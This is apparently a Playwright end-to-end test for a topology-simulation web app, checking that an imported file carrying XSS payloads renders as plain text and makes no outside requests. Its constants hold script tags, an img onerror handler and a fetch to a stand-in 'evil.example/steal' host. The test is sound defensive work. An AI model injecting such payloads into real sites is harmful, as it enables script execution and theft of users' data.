import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from './fixtures.ts';

/** Text that would run script or fetch something if it were ever treated as HTML. */
const HOSTILE_LABEL = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
const HOSTILE_BODY =
  '<!doctype html><title>t</title><h1>Posts</h1><script>fetch("https://evil.example/steal")</script>' +
  '<img src="https://evil.example/pixel.png" onerror="alert(3)"><link rel="stylesheet" href="https://evil.example/x.css">' +
  '<iframe src="https://evil.example/"></iframe><p style="background:url(https://evil.example/bg.png)">{rows}</p>';

function hostileFile(): string {
  const document = JSON.parse(readFileSync(join(process.cwd(), 'public/topologies/default.json'), 'utf8'));
  document.name = 'Hostile <b>name</b>';
  for (const node of document.nodes) {
    if (node.id === 'flask') {
      node.label = HOSTILE_LABEL;
      node.config.routes[0].body = HOSTILE_BODY;
    }
  }
  const file = join(mkdtempSync(join(tmpdir(), 'stackscope-e2e-')), 'hostile.json');
  writeFileSync(file, JSON.stringify(document));
  return file;
}

test('a hostile document renders as text, runs no script and makes the page fetch nothing outside its origin', async ({ page, baseURL }) => {
  const requests: string[] = [];
  const dialogs: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto('/?topology=default');
  await expect(page.getByRole('button', { name: 'Step forward' })).toBeEnabled();
  await page.getByLabel('Import a topology file').setInputFiles(hostileFile());
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Hostile <b>name</b>');

  // The label shows literally on the canvas: no element was made from it.
  const canvas = page.getByRole('region', { name: 'Canvas' });
  await expect(canvas.getByText(HOSTILE_LABEL)).toBeVisible();
  expect(await page.locator('img[src="x"], script:not([src]):text("alert")').count()).toBe(0);

  // Run it: the page the browser receives is drawn, but its script, images, styles and frames
  // are not loaded (the simulated browser asks the simulated DNS for evil.example; the real
  // page asks nobody).
  await page.getByRole('slider', { name: 'Speed' }).fill('7');
  await page.getByRole('button', { name: 'Play' }).click();
  await expect(page.getByRole('button', { name: 'Play' })).toBeVisible({ timeout: 30_000 });
  await page.getByRole('tab', { name: 'Browser' }).click();
  const window = page.getByRole('region', { name: 'Browser window' });
  await expect(window.getByRole('heading', { name: 'Posts' })).toBeVisible();
  expect(await page.locator('iframe, img[src*="evil"], link[href*="evil"], script[src*="evil"]').count()).toBe(0);

  // The settings panel shows the hostile text in a field, as text.
  await page.getByRole('tab', { name: 'Settings' }).click();
  await canvas.locator('.stack-node', { hasText: HOSTILE_LABEL }).click();
  await expect(page.getByRole('region', { name: 'Settings' }).getByLabel('Name', { exact: true })).toHaveValue(HOSTILE_LABEL);

  expect(dialogs).toEqual([]);
  const origin = new URL(baseURL!).origin;
  expect(requests.filter((url) => !url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:'))).toEqual([]);
});
